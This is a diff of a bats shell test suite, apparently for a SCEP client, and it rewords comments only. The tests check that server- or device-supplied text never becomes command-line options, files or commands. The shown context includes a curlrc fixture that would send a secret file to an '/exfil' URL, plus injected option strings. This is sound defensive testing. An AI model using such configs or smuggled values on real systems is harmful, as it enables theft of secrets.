@@ -1,6 +1,6 @@
 #!/usr/bin/env bats
-# What a server, a profile or a device says is never a word of a command line
-# by itself: options, files, commands and line ends planted in every value.
+# Text from a server, a profile or a device never becomes an option, a file or a
+# command on a command line.  Each value holds such texts, and line ends.
 
 load helpers
 load scep_helpers
@@ -24,7 +24,7 @@ setup() {
 	    > ready 2> service 3>&- &
 	server=$!
 	read -r -t 600 URL < ready
-	# What curl would do with -K.
+	# A file that curl -K would obey.
 	cat > curlrc <<-CONF
 	url = "$URL/exfil"
 	data-binary = "@$T/secret"
@@ -39,7 +39,7 @@ teardown() {
 	wait "$server" 2> /dev/null || :
 }
 
-# record: the tools that scripts call write down their words, in $T/words.
+# record: makes the tools that scripts call write their arguments to $T/words.
 record() {
 	local tool
 	mkdir bin
@@ -54,7 +54,7 @@ record() {
 	done
 }
 
-# texts: each on a line, \n for a line end.
+# texts: prints the hostile texts, one per line, with \n for a line end.
 texts() {
 	cat <<-TEXT
 	-x
@@ -76,7 +76,8 @@ texts() {
 	TEXT
 }
 
-# planted NAME TEXT: that text in that place, in others what is right.
+# planted NAME TEXT: the service says TEXT in this place, and is right
+# elsewhere.
 planted() {
 	python3 - "$@" <<-'PY'
 	import json, sys
